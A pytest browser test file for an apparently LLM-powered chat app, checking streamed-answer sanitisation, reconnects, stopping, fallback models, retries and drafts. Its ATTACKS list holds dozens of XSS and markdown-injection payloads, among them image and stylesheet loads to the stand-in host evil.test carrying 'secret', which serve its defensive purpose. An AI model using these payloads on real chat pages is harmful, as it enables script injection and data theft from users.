"""Answers as they stream: nothing runs that should not, nothing is lost, nothing comes twice."""

import threading
from collections.abc import Callable
from typing import Any

import pytest

from llm.errors import llm_error
from llm.models import Fallback, LanguageModel
from tests.browser.waiting import soon

pytestmark = [pytest.mark.browser]

PWN = "window.__pwned=1"
ATTACKS = [
    f"<script>{PWN}</script>",
    f"<img src=x onerror={PWN}>",
    f'<img src="https://evil.test/?d=secret" onerror="{PWN}">',
    "![secret](https://evil.test/a.png?d=secret)",
    "![secret][pixel]\n\n[pixel]: https://evil.test/b.png",
    f"[link](javascript:{PWN})",
    f"[link](JaVaScRiPt:{PWN})",
    f"[link](java\tscript:{PWN})",
    f"[link](&#106;avascript:{PWN})",
    f"[link](vbscript:{PWN})",
    "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+)",
    f'[link](https://evil.test/"onmouseover="{PWN})',
    f"<a href='javascript:{PWN}' autofocus onfocus='{PWN}'>go</a>",
    f"<svg onload={PWN}><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img src onerror={PWN}>",
    f'<math><mtext><img src="x" onerror="{PWN}"></mtext></math>',
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>"></noscript>',
    f"<details open ontoggle={PWN}><summary>x</summary></details>",
    f"<video><source onerror={PWN}></video><audio src=x onerror={PWN}></audio>",
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f"<form action=https://evil.test><input type=submit formaction=javascript:{PWN}></form>",
    '<link rel=stylesheet href=https://evil.test/x.css><style>@import "https://evil.test/y.css";</style>',
    '<div style="background:url(https://evil.test/z.png)">styled</div>',
    "<base href=https://evil.test/><meta http-equiv=refresh content=0;url=https://evil.test/>",
    "<form id=composer><input name=attributes></form><img name=cookie>",
    f"```js\n</code></pre><img src=x onerror={PWN}>\n```",
    f"```<img/src=x/onerror={PWN}>\nx\n```",
    f"| a |\n|---|\n| <img src=x onerror={PWN}> |",
    f"<xmp><img title='</xmp><img src=x onerror={PWN}>'></xmp>",
    f"<template><img src=x onerror={PWN}></template><object data=javascript:{PWN}></object>",
    f"- a\n  - <img src=x onerror={PWN}>\n    > <svg/onload={PWN}>",
    f"&lt;img src=x onerror={PWN}&gt; [<img src=x onerror={PWN}>](https://example.org)",
    "<https://example.org/?q=1> www.example.org mailto:a@example.org",
]


def fragments(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


@pytest.mark.parametrize("size", [1, 7])
def test_nothing_in_an_answer_runs(alice_visits: Callable[..., Any], play: Any, size: int) -> None:
    """AnythingLLM CVE-2026-32626, Open WebUI CVE-2025-46719, CVE-2026-44568: what an answer holds
    ran in the page, while it came or when it was drawn again."""
    window = alice_visits()
    # One by one, cut at every position; together, so that each meets the leftovers of the others.
    chosen = ATTACKS[:6] if size == 1 else ATTACKS
    play(fragments("\n\n".join([*chosen, "The end."]), size))
    window.ask(f"Hello <img src=x onerror={PWN}>")
    assert "The end." in window.answered()
    _harmless(window)
    before = window.page.inner_html(".prose")
    window.page.reload()
    window.answered()
    _harmless(window)
    # Stored is shown as it was streamed.
    soon(lambda: window.page.inner_html(".prose"), before)


def _harmless(window: Any) -> None:
    window.page.wait_for_timeout(150)
    window.clean()
    for wrong in ("img", "iframe", "svg:not(.icon)", "style", "link", "form", "input", "object"):
        assert window.page.locator(f".prose {wrong}").count() == 0
    for wrong in ("style", "id", "onerror", "onload", "onfocus", "name"):
        assert window.page.locator(f".prose [{wrong}]").count() == 0
    for link in window.page.locator(".prose a[href]").all():
        assert link.get_attribute("href").startswith(("https://", "http://", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"


def test_a_reload_in_mid_answer_shows_it_going_on(
    alice_visits: Callable[..., Any], play: Any
) -> None:
    window = alice_visits()
    page, go_on = window.page, threading.Event()
    play([*fragments("One two three four five. ", 3), go_on, *fragments("Six seven eight.", 2)])
    window.ask("Count!")
    page.wait_for_selector(".prose >> text=five.")
    page.reload()
    page.wait_for_selector(".prose >> text=One two three four five.")
    page.wait_for_selector("#send[data-does=stop]")
    go_on.set()
    assert window.answered().strip() == "One two three four five. Six seven eight."
    assert page.locator(".question").count() == page.locator(".answer").count() == 1
    window.clean()


def test_a_lost_connection_is_a_word_and_nothing_is_lost(
    alice_visits: Callable[..., Any], play: Any
) -> None:
    window = alice_visits()
    page, go_on, sockets = window.page, threading.Event(), []

    def through(socket: Any) -> None:
        sockets.append(socket)
        socket.connect_to_server()

    page.route_web_socket("**/ws/chat/**", through)
    play([*fragments("First half of it. ", 4), go_on, *fragments("Second half of it.", 4)])
    window.ask("Go")
    page.wait_for_selector(".prose >> text=half of it.")
    sockets[0].close(code=1012)
    go_on.set()
    assert window.answered().strip() == "First half of it. Second half of it."
    assert len(sockets) == 2
    page.wait_for_selector("#connection:empty", state="attached")
    window.clean()


def test_stop_keeps_what_was_said_and_says_so(alice_visits: Callable[..., Any], play: Any) -> None:
    window = alice_visits()
    play(["Only the beginning ", threading.Event()])
    window.ask("Go")
    window.page.wait_for_selector(".prose >> text=Only the beginning")
    window.page.click("[aria-label='Stop the answer']")
    window.page.wait_for_selector("text=You stopped this answer.")
    assert window.answered().strip() == "Only the beginning"
    window.clean()


def test_a_stand_in_is_named_with_the_reason(
    alice_visits: Callable[..., Any], play: Any, product: str
) -> None:
    asked = LanguageModel.objects.get(name="quotes")
    other = LanguageModel.objects.create(
        provider=asked.provider, name="other", display_name="Other", order=900
    )
    Fallback.objects.create(model=asked, fallback=other, position=1)
    window = alice_visits()
    play([llm_error("spent")], ["The other one knows."])
    window.ask("Go")
    assert "The other one knows." in window.answered()
    line = "Other answers instead of Quotes: its account is used up."
    window.page.wait_for_selector(f"text={line}")
    window.page.reload()
    window.answered()
    window.page.wait_for_selector(f"text={line}")
    window.clean()


def test_a_failure_is_told_and_can_be_tried_again(
    alice_visits: Callable[..., Any], play: Any
) -> None:
    window = alice_visits()
    play([llm_error("unavailable")], ["Now it works."])
    window.ask("Go")
    window.page.click(".state.wrong button")
    assert window.answered().strip() == "Now it works."
    window.has(".answer", 1)
    window.has(".question", 1)


def test_drafts_titles_and_removal(alice_visits: Callable[..., Any], play: Any) -> None:
    window = alice_visits()
    page = window.page
    play(["Yes."])
    window.ask("Is this the first chat?")
    window.answered()
    page.fill("#say", "A question I am still")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("thinking about")
    page.reload()
    window.answered()
    soon(lambda: page.input_value("#say"), "A question I am still\nthinking about")

    page.click(".session .tool")
    page.click("#session-menu >> text=Rename")
    page.fill(".session input", "The first one")
    page.keyboard.press("Enter")
    page.wait_for_selector("#title >> text=The first one")
    page.click(".session .tool")
    page.click("#session-menu >> text=Delete")
    page.click("dialog.ask .danger")
    page.wait_for_url("**/chat/")
    window.has(".session", 0)
    soon(lambda: page.input_value("#say"), "")
    window.clean()
